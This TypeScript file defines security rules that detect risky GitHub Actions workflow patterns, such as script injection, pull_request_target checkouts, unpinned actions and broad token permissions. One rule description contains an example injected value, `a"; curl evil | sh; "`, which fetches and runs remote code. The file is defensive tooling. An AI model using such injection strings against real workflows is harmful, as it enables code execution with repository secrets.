/**
 * Built-in rules for the repository's own GitHub Actions workflows, after GitHub's security
 * hardening guide. Each expression is true when the step, job or workflow violates the rule.
 */
import type { PolicyRuleInput } from "../types";

const HARDENING =
  "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions";
const tags = ["workflow", "security"];

/**
 * Context fields an outsider controls, from GitHub's list of untrusted input (issue, PR, comment,
 * review and discussion text, commit messages and authors, branch names, page names) plus the
 * workflow_run fields that carry the same text from a fork's run. `[...]` and `.*` cover
 * `commits[0].message` and `commits.*.message`.
 */
export const UNTRUSTED_CONTEXT = [
  String.raw`github\.head_ref`,
  String.raw`github\.event\.(issue|pull_request|discussion)\.(title|body)`,
  String.raw`github\.event\.(comment|review|review_comment)\.body`,
  String.raw`github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)`,
  String.raw`github\.event\.pages(\[[^\]]*\]|\.\*)?\.page_name`,
  String.raw`github\.event\.(commits(\[[^\]]*\]|\.\*)?|head_commit)\.(message|(author|committer)\.(email|name))`,
  String.raw`github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|(author|committer)\.(email|name)))`,
].join("|");

// The fork's code, as pull_request_target and workflow_run name it.
const HEAD_REF = String.raw`github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|refs/pull/|github\.event\.workflow_run\.head_(sha|branch)`;

/** Built-in rules for GitHub workflows. */
export const workflowRules: PolicyRuleInput[] = [
  {
    id: "workflow-script-injection",
    name: "Untrusted input interpolated into a script",
    description:
      'A ${{ }} expression is pasted into the script before the shell runs it, so an issue title or branch name like `a"; curl evil | sh; "` runs as code with the job\'s token. Pass the value through env: and quote "$VAR" instead.',
    severity: "high",
    target: "workflow",
    rule: `step.expressions.exists(e, e.matches(${JSON.stringify(UNTRUSTED_CONTEXT)}))`,
    // Every untrusted expression of the step, so fixing the first does not hide the others.
    message: `step "{{ step.label }}" of job "{{ job.id }}" interpolates attacker-controlled "{{ step.expressions.filter(e, e.matches(${JSON.stringify(UNTRUSTED_CONTEXT)})).join('", "') }}" into a script; pass it through env:`,
    field: ["run", "with.script"],
    helpUri: HARDENING + "#understanding-the-risk-of-script-injections",
    tags,
  },
  {
    id: "workflow-pull-request-target-checkout",
    name: "pull_request_target checks out the pull request",
    description:
      "pull_request_target (and workflow_run) run with write access and secrets; checking out the fork's head and building it hands both to the pull request's author.",
    severity: "critical",
    target: "workflow",
    rule: `workflow.events.exists(e, e == "pull_request_target" || e == "workflow_run") && step.action.name == "actions/checkout" && (step.with.?ref.orValue("").matches(${JSON.stringify(HEAD_REF)}) || step.with.?repository.orValue("").contains("pull_request.head.repo"))`,
    message:
      'step "{{ step.label }}" checks out the untrusted pull request head in a {{ workflow.events.filter(e, e == "pull_request_target" || e == "workflow_run")[0] }} workflow',
    field: ["with.ref", "with.repository", "uses"],
    helpUri: "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
    tags,
  },
  {
    id: "workflow-unpinned-action",
    name: "Action not pinned to a commit SHA",
    description:
      "A tag or branch can be moved to malicious code by whoever controls the action's repository; pin third-party actions to a full 40-character commit SHA, and `docker://` images to a digest (`@sha256:…`). Owners in options.trustedActionOwners (default: actions) are exempt.",
    severity: "medium",
    target: "workflow",
    rule: '!step.action.pinned && ((step.action.kind == "remote" && !(step.action.owner in options.trustedActionOwners)) || step.action.kind == "docker")',
    message:
      'step "{{ step.label }}" uses {{ step.uses }}, not pinned to {{ step.action.kind == "docker" ? "an image digest" : "a commit SHA" }}',
    field: "uses",
    helpUri: HARDENING + "#using-third-party-actions",
    tags,
  },
  {
    id: "workflow-unpinned-reusable-workflow",
    name: "Reusable workflow not pinned to a commit SHA",
    description:
      "A reusable workflow called by tag or branch runs whatever that ref points to today, with this job's secrets.",
    severity: "medium",
    target: "workflow",
    scope: "job",
    rule: 'job.action.kind == "remote" && !job.action.pinned && !(job.action.owner in options.trustedActionOwners)',
    message: 'job "{{ job.id }}" calls {{ job.uses }}, not pinned to a commit SHA',
    field: "uses",
    helpUri: HARDENING + "#using-third-party-actions",
    tags,
  },
  {
    id: "workflow-write-all-permissions",
    name: "GITHUB_TOKEN with write-all",
    description:
      "permissions: write-all gives every step a token that can push code, publish releases and change settings.",
    severity: "medium",
    target: "workflow",
    scope: "job",
    rule: '(job.permissions == null ? workflow.permissions : job.permissions) == "write-all"',
    message: 'job "{{ job.id }}" runs with permissions: write-all',
    field: "permissions",
    helpUri: HARDENING + "#using-secrets",
    tags,
  },
  {
    id: "workflow-missing-permissions",
    name: "GITHUB_TOKEN permissions not declared",
    description:
      "Without a permissions: block the token gets the repository's default, which may be read-write. Declare the least the workflow needs (permissions: {} or contents: read).",
    severity: "low",
    target: "workflow",
    scope: "workflow",
    rule: "workflow.permissions == null && workflow.jobs.exists(j, j.permissions == null)",
    message:
      'no permissions: block for the workflow or for job(s) {{ workflow.jobs.filter(j, j.permissions == null).map(j, j.id).join(", ") }}',
    helpUri:
      "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token",
    tags,
  },
];
